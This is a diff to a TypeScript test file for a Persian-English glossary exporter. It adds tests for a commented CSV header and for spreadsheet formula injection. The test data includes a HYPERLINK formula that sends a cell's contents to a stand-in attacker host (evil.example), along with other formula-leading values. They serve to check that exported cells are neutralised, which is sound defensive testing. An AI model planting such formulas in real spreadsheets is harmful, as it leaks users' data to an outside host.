@@ -42,7 +42,8 @@ describe('CSV records (RFC 4180)', () => {
 describe('CSV glossary', () => {
   it('writes a header that round-trips and quotes only what needs it', () => {
     const text = [...writeGlossary(SAMPLE, 'csv', { createdAt: new Date(0), tool: 't' })].join('');
-    expect(text.startsWith('\ufefffa,en,comment,entry,key,subject,')).toBe(true);
+    // A comment line, so OmegaT's CSV reader does not take it for a term (issue 13.4).
+    expect(text.startsWith('\ufeff# fa,en,comment,entry,key,subject,')).toBe(true);
     expect(text).toContain('"Tabs\tand CR\r\nand a backslash \\ and <tags> & ""quotes"", commas"');
     expect(text).toContain('\r\nسرلشکر,Major General,');
   });
@@ -83,9 +84,9 @@ describe('CSV glossary', () => {
     // Another tool's subject is no reason to refuse a row: it files under "general" and stays in the note.
     expect(g.entries[0]!.entry).toMatchObject({ subject: 'general', note: 'Subject field: navy' });
     expect(g.rejected).toEqual([
-      { where: 'line 4', reason: 'unknown status "maybe" in column "status" (expected one of: preferred, admitted, deprecated, forbidden)' },
       { where: 'line 2', reason: 'empty Persian cell' },
       { where: 'line 3', reason: 'empty English cell' },
+      { where: 'line 4', reason: 'unknown status "maybe" in column "status" (expected one of: preferred, admitted, deprecated, forbidden)' },
     ]);
   });
 
@@ -130,5 +131,55 @@ describe('CSV glossary', () => {
       'the header names no English column (en, english or target)',
     );
     expect(thrown(() => parse('fa,en,note,notes\n')).params.reason).toBe('columns 3 ("note") and 4 ("notes") mean the same thing');
+  });
+
+  it('reads our commented header as the header, and skips "#" comment lines before it (issue 13.4)', () => {
+    const g = parse('# exported by someone\n# fa,en,note\nسپاه,IRGC,short form\n');
+    expect(g.rejected).toEqual([]);
+    expect(g.entries.map((e) => [e.where, e.entry.terms.map((t) => t.text), e.entry.note])).toEqual([
+      ['line 3', ['سپاه', 'IRGC'], 'short form'],
+    ]);
+  });
+});
+
+describe('spreadsheet formula injection in glossary CSV and TSV (issue 13.14)', () => {
+  const nasty = [
+    '=HYPERLINK("http://evil.example/?"&A1,"click")',
+    '+98 21 1234',
+    '-ها',
+    '@SUM(1)',
+    "'=already quoted",
+    "'plain apostrophe",
+  ];
+  const entries = nasty.map((note, i) => ({
+    subject: 'general' as const,
+    note,
+    terms: [
+      { lang: 'fa' as const, text: `سپاه ${i}`, status: 'preferred' as const },
+      { lang: 'en' as const, text: i === 1 ? '=1+1' : `IRGC ${i}`, status: 'preferred' as const },
+    ],
+  }));
+
+  for (const format of ['csv', 'tsv'] as const) {
+    it(`${format}: no cell starts with = + - @, and our reader gets the original text back`, () => {
+      const text = [...writeGlossary(entries, format, { createdAt: new Date(0), tool: 't' })].join('');
+      const sep = format === 'csv' ? ',' : '\t';
+      const cells = text
+        .split(/\r?\n/)
+        .filter((l) => l !== '' && !l.startsWith('#') && !l.startsWith('\ufeff'))
+        .flatMap((l) => l.split(sep))
+        .map((c) => c.replace(/^"/, ''));
+      expect(cells.filter((c) => /^[=+\-@\t\r]/.test(c))).toEqual([]);
+      expect(cells).toContain("'=1+1");
+      const back = parseGlossary(text, `g.${format}`, format);
+      expect(back.rejected).toEqual([]);
+      expect(back.entries.map((e) => e.entry.note)).toEqual(nasty);
+      expect(back.entries[1]!.entry.terms.find((t) => t.lang === 'en')?.text).toBe('=1+1');
+    });
+  }
+
+  it("keeps a leading quote in someone else's CSV as written", () => {
+    const g = parse("fa,en,note\nسپاه,IRGC,'=x\n");
+    expect(g.entries[0]!.entry.note).toBe("'=x");
   });
 });
